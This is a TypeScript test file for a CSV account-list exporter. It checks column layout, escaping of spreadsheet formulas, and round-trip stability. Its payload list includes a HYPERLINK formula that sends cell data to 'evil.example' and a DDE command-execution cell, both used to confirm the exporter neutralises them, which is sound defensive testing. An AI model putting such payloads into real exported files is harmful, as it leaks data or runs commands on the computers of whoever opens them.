import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { exportFull, exportPlain } from '../../lib/intake/export.ts';
import { exportRefused } from '../../lib/intake/exportRefused.ts';
import type { Account } from '../../lib/schema/account.ts';
import { account, person } from '../core/builders.ts';
import { readWhole } from './readWhole.ts';

function read(text: string, old: readonly Account[] = []) {
  let next = old.length;
  const data = new Blob([text]);
  return readWhole({ name: 'list.csv', data }, old, {
    now: Date.UTC(2026, 10, 20),
    newId: () => `id-${++next}`,
  });
}

const rowsOf = (csv: string) => Papa.parse<string[]>(csv, { skipEmptyLines: true }).data;

/** Cells that a spreadsheet would run. */
const payloads = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
  "=cmd|'/C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '＝1+1',
  "'=1+1",
];

describe('the plain export', () => {
  it('has exactly the seven columns of the plain list', async () => {
    const tal = readFileSync(new URL('../fixtures/lists/plain-tal.csv', import.meta.url), 'utf8');
    const { accounts } = await read(tal);
    const [header, first] = rowsOf(exportPlain(accounts));
    expect(header).toEqual([
      'Account',
      'Tier',
      'Industry',
      'Size',
      'Intent Signals',
      'Owner (AE)',
      'Priority',
    ]);
    expect(first).toEqual([
      'Example Rail',
      '1:1',
      'Transport',
      '5,001-10,000',
      'Hiring; New COO',
      'Dana Whitlock',
      'High',
    ]);
  });
});

describe('formulas', () => {
  it.each(payloads)('%s is text in every export', (payload) => {
    const list = [
      account({
        name: payload,
        industry: payload,
        attributes: [{ name: payload, value: payload }],
        people: [person(payload)],
      }),
    ];
    const exports = [
      exportPlain(list),
      exportFull(list),
      exportRefused({
        header: [payload],
        refused: [{ row: 2, value: payload, reason: payload, cells: [payload] }],
      }),
    ];
    for (const csv of exports) {
      const cells = rowsOf(csv).flat();
      expect(cells.filter((cell) => /^[=+\-@\t\r＝＋－＠]/.test(cell))).toEqual([]);
      expect(cells).toContain(`'${payload}`);
    }
  });

  it('come back as they were', async () => {
    const rows = payloads.map((payload, at) => [`Company ${at}`, `company-${at}.com`, payload]);
    const { accounts } = await read(
      exportFull((await read(Papa.unparse([['Account', 'Domain', 'Industry'], ...rows]))).accounts),
    );
    expect(accounts.map(({ industry }) => industry)).toEqual(
      payloads.map((payload) => payload.replace(/^'/, '')),
    );
  });
});

describe('the full export', () => {
  const cell = (...cells: string[]) => fc.constantFrom('', ...cells);
  const columns = {
    Account: fc.constantFrom('Acme', 'Bolt', 'Cog, Inc.', '=Dot'),
    Website: cell('acme.example', 'eu.acme.example', 'bolt.com', 'acme.example; bolt.de'),
    'Company Country': cell('DE', 'FR'),
    'Record ID': cell('1', '2', '00012'),
    Tier: fc.constantFrom('Tier 1', '1:many'),
    Size: cell('201-500', '1.2k', '10,001+', 'large'),
    'Annual Revenue': cell('$10M - $50M', '€ 1.234,50', '1.2345', 'lots'),
    'Contract Value': cell('250.000 EUR', '$1.5k'),
    'Intent Signals': cell('Hiring; New CIO, from Acme', 'New CIO, from Acme;', 'Funding, Expansion'),
    'Timing Triggers': cell('Funding 2026-03-01; New CIO', 'Hiring: twelve, soon;'),
    'Renewal Date': cell('2027-01-31 14:00'),
    Relationship: cell('Past talks'),
    'Account Status': cell('Open Opportunity', 'Customer'),
    'Strategic Importance': cell('Medium'),
    Technologies: cell('Kafka; Postgres'),
    'LinkedIn Company URL': cell('linkedin.com/company/acme'),
    'Message Brief': cell('Say this,\nthen that'),
    'Brief: Why now': cell('New plant'),
    Region: cell('Benelux', "it's"),
    'Full Name': cell('Ines Varga', 'Tomas Hale'),
    Email: cell('ines@acme.example', 'tomas@acme.example'),
    'Buying Role': cell('Economic Buyer; LEGAL_AND_COMPLIANCE'),
    'Do Not Call': cell('yes', 'no'),
    'Email Opt Out': cell('1'),
    'Legal Basis': cell('Legitimate interest – prospect/lead'),
    Consent: cell('yes', 'no'),
    'Consent Date': cell('2026-03-01'),
    'Left Company': cell('yes'),
    Phone: cell('+44 1632 960101'),
    'Person: Floor': cell('3'),
  };
  const headers = Object.keys(columns);
  const row = fc.tuple(...Object.values(columns));

  it('changes nothing when it comes in again', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(row, { minLength: 1, maxLength: 8 }), async (rows) => {
        const { accounts } = await read(Papa.unparse([headers, ...rows]));
        const again = await read(exportFull(accounts), accounts);
        expect(again.accounts).toEqual(accounts);
        expect(again.report).toMatchObject({ added: 0, changed: 0, gone: 0, refused: [] });
      }),
      { numRuns: 75 },
    );
  }, 30_000);
});
